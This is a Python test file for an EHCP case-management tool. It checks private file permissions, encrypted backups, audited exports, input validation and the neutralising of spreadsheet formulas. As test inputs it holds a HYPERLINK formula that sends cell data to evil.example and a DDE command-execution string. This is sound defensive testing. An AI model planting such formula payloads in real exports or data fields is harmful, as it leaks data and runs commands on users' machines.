"""Issue 18, files and exports: every file ehcp writes is private (0600 in 0700 folders), ``--out``
never overwrites silently and never the live database, backups can be encrypted, bulk exports need
'export_personal_data' and are audited, formula-like cells are neutralised, logins and team names are
checked, and EHCP_TODAY is refused once permissions are enforced (unless a test database)."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from tests.conftest import flag_test_database
from tests.e2e.conftest import Ehcp
from tests.trust.helpers import cli_env, run_cli

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def audit(url: str, action: str) -> list[dict]:
    from ehcp.store.db import engine_for

    with engine_for(url).connect() as conn:
        rows = conn.execute(sa.text("SELECT actor, detail FROM audit_log WHERE action = :a ORDER BY id"),
                            {"a": action}).all()
    return [{"actor": r.actor, "detail": r.detail if isinstance(r.detail, dict) else json.loads(r.detail)}
            for r in rows]


def one_line(result) -> str:
    lines = [line for line in result.stderr.strip().splitlines() if not line.startswith("warning: SQLite")]
    assert result.exit_code == 1 and len(lines) == 1, (result.exit_code, result.stderr)
    return lines[0]


def new_case(ehcp: Ehcp, child: str = "Alex Example") -> str:
    return ehcp("case", "new", "--child", child, "--dob", "2016-05-04", "--received", "2025-03-03").stdout.split()[-1]


# --- 1. safe files ---------------------------------------------------------------------------------

def test_a_new_database_its_folder_and_every_export_are_private(tmp_path):
    """The real script (umask 077): the database 0600 in a new 0700 folder, and exports, their
    marking sidecar, the xlsx, the dashboard, the SEN2 XML and backups all 0600 (were 0644)."""
    folder = tmp_path / "data" / "ehcp"
    url = f"sqlite:///{folder / 'ehcp.sqlite3'}"
    env = cli_env(url, tmp_path, user="ada.admin", EHCP_SEN2_DMO="Y", EHCP_SEN2_DCO="N", EHCP_SEN2_DSCO="R")
    assert run_cli(["db", "upgrade"], env).returncode == 0
    assert run_cli(["case", "new", "--child", "Alex Example", "--dob", "2016-05-04", "--received", "2025-03-03"],
                   env).returncode == 0
    assert mode(folder) == 0o700 and mode(folder.parent) == 0o700
    assert mode(folder / "ehcp.sqlite3") == 0o600
    out = tmp_path / "exports"
    out.mkdir()
    commands = [["report", "caseload", "--format", "csv", "--out", str(out / "caseload.csv")],
                ["report", "overdue", "--format", "xlsx", "--out", str(out / "overdue.xlsx")],
                ["report", "dashboard", "--out", str(out / "board.html")],
                ["sen2", "export", "--census", "2026-01-15", "--lea", "999", "--out", str(out / "sen2.xml")],
                ["db", "backup", str(out / "backup.sqlite3")]]
    for argv in commands:
        done = run_cli(argv, {**env, "EHCP_TODAY": "2026-02-01"})
        assert done.returncode == 0, (argv, done.stderr)
    written = sorted(p.name for p in out.iterdir())
    assert written == ["backup.sqlite3", "board.html", "caseload.csv", "caseload.csv.OFFICIAL-SENSITIVE.txt",
                       "overdue.xlsx", "sen2.xml"]
    assert {p.name: mode(p) for p in out.iterdir()} == dict.fromkeys(written, 0o600)


def test_sqlite_gives_its_wal_the_private_mode_of_the_database(tmp_path):
    """Even without the umask (a library caller), the -wal and -shm SQLite creates are 0600: the
    database file is created 0600 before SQLite first opens it."""
    from ehcp.store.db import engine_for

    old = os.umask(0o022)
    try:
        path = tmp_path / "new" / "db.sqlite3"
        engine = engine_for(f"sqlite:///{path}")
        with engine.begin() as conn:
            conn.execute(sa.text("CREATE TABLE t (x INTEGER)"))
            conn.execute(sa.text("INSERT INTO t VALUES (1)"))
            sides = [path.with_name(path.name + s) for s in ("-wal", "-shm")]
            assert all(p.exists() for p in sides)
            assert [mode(p) for p in [path, *sides]] == [0o600, 0o600, 0o600]
        engine.dispose()
        assert mode(path.parent) == 0o700
    finally:
        os.umask(old)


def test_out_refuses_an_existing_file_without_force_and_the_live_database_always(sqlite_url, tmp_path):
    ehcp = Ehcp(sqlite_url, tmp_path, user="ada.admin")
    new_case(ehcp)
    target = tmp_path / "caseload.csv"
    target.write_text("keep me\n")
    line = one_line(ehcp("report", "caseload", "--format", "csv", "--out", str(target), code=None))
    assert line == f"ehcp: {target} already exists; add --force to replace it"
    assert target.read_text() == "keep me\n"
    ehcp("report", "caseload", "--format", "csv", "--out", str(target), "--force")
    assert target.read_text().startswith("caseworker")
    database = Path(sqlite_url.removeprefix("sqlite:///"))
    before = database.read_bytes()
    link = tmp_path / "innocent.xlsx"
    link.symlink_to(database)
    for victim in (database, Path(str(database) + "-wal"), Path(str(database) + "-shm"),
                   Path(str(database) + "-journal"), link, tmp_path / "." / database.name):
        for argv in (["report", "caseload", "--format", "xlsx", "--out", str(victim), "--force"],
                     ["report", "dashboard", "--out", str(victim), "--force"],
                     ["sen2", "export", "--census", "2026-01-15", "--lea", "999", "--out", str(victim), "--force"],
                     ["db", "backup", str(victim)]):
            line = one_line(ehcp(*argv, code=None, EHCP_SEN2_DMO="Y", EHCP_SEN2_DCO="N", EHCP_SEN2_DSCO="R"))
            assert "is the live database or its journal" in line, (argv, line)
    assert database.read_bytes() == before
    assert ehcp.json("case", "list", "--all")["cases"]  # the database still works


def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(tmp_path):
    from ehcp.files import atomic_write

    target = tmp_path / "report.csv"
    target.write_text("old\n")
    with pytest.raises(RuntimeError), atomic_write(target) as handle:
        handle.write("half of the new")
        raise RuntimeError("disk full")
    assert target.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]


# --- 2. encrypted backups --------------------------------------------------------------------------

def test_backup_encrypted_with_age_and_restored_with_the_key(sqlite_url, tmp_path):
    ehcp = Ehcp(sqlite_url, tmp_path, user="ada.admin")
    ref = new_case(ehcp, "Sam Secretchild")
    key = tmp_path / "keys" / "backup.key"
    public = ehcp("db", "keygen", str(key)).stdout.strip()
    assert public.startswith("age1") and mode(key) == 0o600
    assert public not in ehcp("db", "keygen", str(key), code=1).stdout  # never overwrites a key
    backup = tmp_path / "backup.age"
    said = ehcp("db", "backup", str(backup), "--encrypt-to", public).stderr
    assert "encrypted with age for 1 recipient" in said and "store it encrypted" not in said
    data = backup.read_bytes()
    assert data.startswith(b"age-encryption.org/v1") and b"Secretchild" not in data and b"SQLite format" not in data
    assert mode(backup) == 0o600
    ehcp("case", "withdraw", ref, "--on", "2025-03-10", "--reason", "parent_withdrew")
    assert "is encrypted (age); give the key file with --identity" in one_line(
        ehcp("db", "restore", str(backup), "--yes", code=None))
    other = tmp_path / "other.key"
    ehcp("db", "keygen", str(other))
    assert "cannot restore" in one_line(ehcp("db", "restore", str(backup), "--identity", str(other), "--yes",
                                             code=None))
    ehcp("db", "restore", str(backup), "--identity", str(key), "--yes")
    assert ehcp.json("case", "show", ref)["stage"] == "request"
    assert not list(tmp_path.rglob("*.part"))  # the decrypted copy is gone
    plain = ehcp("db", "backup", str(tmp_path / "plain.sqlite3")).stderr
    assert "NOT encrypted" in plain and "store it encrypted" not in plain
    assert "not an age recipient" in one_line(ehcp("db", "backup", str(tmp_path / "x"), "--encrypt-to", "bogus",
                                                   code=None))


# --- 3. bulk exports need export_personal_data and are audited ---------------------------------------

def test_backup_and_case_list_all_need_export_personal_data_and_are_audited(db_url, tmp_path):
    ehcp = Ehcp(db_url, tmp_path, user="ada.admin")
    new_case(ehcp)
    new_case(ehcp, "Sam Sample")
    ehcp("user", "add", "casey.worker", "--role", "caseworker", "--team", "North")
    ehcp("user", "add", "morgan.manager", "--role", "manager", "--team", "North")
    for fmt in ("csv", "json"):
        line = one_line(ehcp("case", "list", "--all", "--format", fmt, code=None, EHCP_USER="casey.worker"))
        assert "permission 'export_personal_data' needs role manager or admin" in line
    ehcp("case", "list", "--all", EHCP_USER="casey.worker")  # on screen: not an export
    ehcp("case", "list", "--all", "--format", "csv", EHCP_USER="morgan.manager")
    assert audit(db_url, "personal_data_exported") == [
        {"actor": "morgan.manager", "detail": {"report": "case list --all", "format": "csv", "rows": 2}}]
    if db_url.startswith("sqlite"):
        line = one_line(ehcp("db", "backup", str(tmp_path / "b.sqlite3"), code=None, EHCP_USER="casey.worker"))
        assert "permission 'export_personal_data'" in line and not (tmp_path / "b.sqlite3").exists()
        ehcp("db", "backup", str(tmp_path / "b.sqlite3"), EHCP_USER="morgan.manager")
        [done] = audit(db_url, "database_backed_up")
        assert done["actor"] == "morgan.manager"
        assert done["detail"] | {"tables": 0} == {"file": "b.sqlite3", "tables": 0, "cases": 2, "encrypted": False,
                                                  "recipients": 0}
    ehcp("report", "caseload", "--format", "json", "--out", str(tmp_path / "c.json"), EHCP_USER="morgan.manager")
    assert audit(db_url, "personal_data_exported")[-1]["detail"]["rows"] >= 1


# --- 4. formulas neutralised -----------------------------------------------------------------------

def test_formula_names_are_text_in_xlsx_and_prefixed_in_csv(sqlite_url, tmp_path):
    from openpyxl import load_workbook

    ehcp = Ehcp(sqlite_url, tmp_path, user="ada.admin")
    ref = new_case(ehcp, "Alex Example")
    ehcp("partner", "add", EVIL, "--email", "ep@example.org")
    ehcp("case", "advance", ref, "--to", "assessment", "--on", "2025-04-10")
    ehcp("advice", "request", ref, "--kind", "psychological", "--partner", EVIL, "--on", "2025-04-14")
    book = tmp_path / "partners.xlsx"
    ehcp("report", "partners", "--format", "xlsx", "--out", str(book))
    with zipfile.ZipFile(book) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s for s in sheets)  # no live formula anywhere
    cells = [c for ws in load_workbook(book) for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    # a child named like a formula, in case list as CSV (stdout and file): a leading quote; days stay numbers
    other = ehcp("case", "new", "--child", "=cmd|' /C calc'!A0 Smith", "--dob", "2016-05-04",
                 "--received", "2025-03-03").stdout.split()[-1]
    rows = list(csv.DictReader(io.StringIO(ehcp("case", "list", "--all", "--format", "csv").stdout)))
    child = {r["reference"]: r["child"] for r in rows}
    assert child[other] == "'=cmd|' /C calc'!A0 Smith" and child[ref] == "Alex Example"
    assert int(rows[0]["days_left"]) < 0  # a negative number is still a plain number


def test_csv_cell_keeps_numbers_and_neutralises_every_formula_start():
    from ehcp.files import csv_cell

    assert [csv_cell(v) for v in ("=1+1", "+44 20", "-2+3", "@SUM(A1)", "\tx", "\rx")] == \
        ["'=1+1", "'+44 20", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in (-3, -2.5, "-3", "-", "Alex", "2025-01-01", None)] == \
        [-3, -2.5, "-3", "-", "Alex", "2025-01-01", None]


# --- 5. logins and team names ----------------------------------------------------------------------

@pytest.mark.parametrize(("argv", "what"), [
    (["user", "add", "=evil"], "login '=evil'"),
    (["user", "add", "bad name"], "login 'bad name'"),
    (["user", "add", "ok.name", "--team", "North East"], "team name 'North East'"),
    (["user", "add", "ok.name", "--team", "=HYPERLINK(1)"], "team name '=HYPERLINK(1)'"),
    (["user", "role", "ada.admin", "admin", "--team", "a;b"], "team name 'a;b'"),
])
def test_logins_and_team_names_are_letters_digits_dot_dash_underscore(sqlite_url, tmp_path, argv, what):
    ehcp = Ehcp(sqlite_url, tmp_path, user="ada.admin")
    ehcp("user", "add", "ada.admin", "--role", "admin")
    ehcp("user", "add", "casey-worker_2", "--role", "caseworker", "--team", "North.1")
    line = one_line(ehcp(*argv, code=None))
    assert line == f"ehcp: {what} is not allowed: use letters, digits, '.', '-' and '_' (at most 63)"
    assert {u["login"] for u in ehcp.json("user", "list")["users"]} == {"ada.admin", "casey-worker_2"}


# --- 6. EHCP_TODAY in production ----------------------------------------------------------------------

def test_ehcp_today_is_refused_once_enforced_unless_an_admin_flags_a_test_database(db_url, tmp_path):
    flag_test_database(db_url, on=False)  # the fixtures flag every test database; this one is 'production'
    ehcp = Ehcp(db_url, tmp_path, user="ada.admin")
    ref = new_case(ehcp)  # open mode: the clock may still be set (a fresh install, a demo)
    ehcp("user", "add", "casey.worker", "--role", "caseworker")
    line = one_line(ehcp("case", "note", ref, "dated in 2029", code=None, EHCP_USER="casey.worker",
                         EHCP_TODAY="2029-01-01"))
    assert line.startswith("ehcp: EHCP_TODAY is refused while permissions are enforced")
    without = {k: v for k, v in ehcp.env.items() if k != "EHCP_TODAY"}
    result = ehcp.runner.invoke(_app(), ["case", "note", ref, "real date"], env={**without, "EHCP_TODAY": None,
                                                                                  "EHCP_USER": "casey.worker"})
    assert result.exit_code == 0, result.stderr
    line = one_line(ehcp("db", "flag-test", "--on", code=None, EHCP_USER="casey.worker"))
    assert "permission 'manage_users' needs role admin" in line
    ehcp("db", "flag-test", "--on")
    assert "yes" in ehcp("db", "flag-test").stderr
    ehcp("case", "note", ref, "rehearsal", EHCP_USER="casey.worker", EHCP_TODAY="2025-12-01")
    assert [a["actor"] for a in audit(db_url, "test_database_flagged")] == ["ada.admin"]
    ehcp("db", "flag-test", "--off")
    one_line(ehcp("case", "list", code=None, EHCP_USER="casey.worker"))


def test_services_refuse_ehcp_today_when_enforced_too(db_url, make_ctx):
    from datetime import date

    from ehcp.services import users
    from ehcp.services.cases import ChildDetails, open_case
    from ehcp.services.errors import Refused

    flag_test_database(db_url, on=False)
    admin = make_ctx(db_url, user="ada.admin")
    users.add(admin, login="ada.admin", name=None, role="admin", team=None, email=None)
    with pytest.raises(Refused, match="EHCP_TODAY is refused"):
        open_case(admin, ChildDetails("Alex", "Example", date(2016, 5, 4)), received=date(2025, 3, 3))


def _app():
    from cli.main import app

    return app
